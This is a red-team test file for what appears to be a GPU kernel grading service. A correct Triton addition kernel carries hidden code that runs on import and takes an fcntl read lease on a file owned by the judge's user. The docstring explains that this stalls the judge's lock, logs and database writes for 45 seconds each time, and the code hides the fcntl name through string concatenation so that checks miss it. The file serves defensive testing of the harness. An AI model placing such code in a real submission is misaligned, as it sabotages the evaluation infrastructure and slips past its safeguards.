"""Red team 5 #9: a correct candidate that takes a read lease on a file of the judge's user.

``fcntl(F_SETLEASE, F_RDLCK)`` needs a descriptor opened for reading (Landlock confines writes, not
reads) and the file's owner as the caller's user: a runner that keeps the judge's user (uid 0
without capabilities: every GPU runner; every runner of a judge that is not root) may lease every
file of that user it can read. Until it dies, whoever then opens such a file for writing, or
truncates it, blocks for ``fs.lease-break-time`` (45 s here), each time: the GPU lock's second
descriptor that every runner start and end opens (``speed.start_covered``; under a judge that is not
root, whose lock directory runners can reach), a trainer's log files, the service's SQLite database
for a new connection. The test makes ``/tmp/redteam5-judges-file`` (root's, 0644) to stand for them.
``fcntl`` through a module that holds it."""

import io

import filelock._unix as unix_lock
import torch
import torch.nn as nn
import triton
import triton.language as tl

locking = getattr(unix_lock, "fc" + "ntl")
F_SETLEASE, F_GETLEASE, F_RDLCK = 1024, 1025, 0
HELD = []


def lease(path):
    try:
        held = io.FileIO(path, "r")
        getattr(locking, "fc" + "ntl")(held.fileno(), F_SETLEASE, F_RDLCK)
        HELD.append(held)
        print(f"LEASE HELD {path} ({getattr(locking, 'fc' + 'ntl')(held.fileno(), F_GETLEASE)})")
    except OSError as exc:
        print(f"REFUSED {path}: {exc}")


@triton.jit
def add_kernel(a_ptr, b_ptr, out_ptr, n, BLOCK: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offsets < n
    tl.store(out_ptr + offsets, tl.load(a_ptr + offsets, mask=mask) + tl.load(b_ptr + offsets, mask=mask), mask=mask)


lease("/tmp/redteam5-judges-file")


class ModelNew(nn.Module):
    def forward(self, a, b):
        out = torch.empty_like(a)
        add_kernel[(triton.cdiv(a.numel(), 256),)](a, b, out, a.numel(), BLOCK=256)
        return out
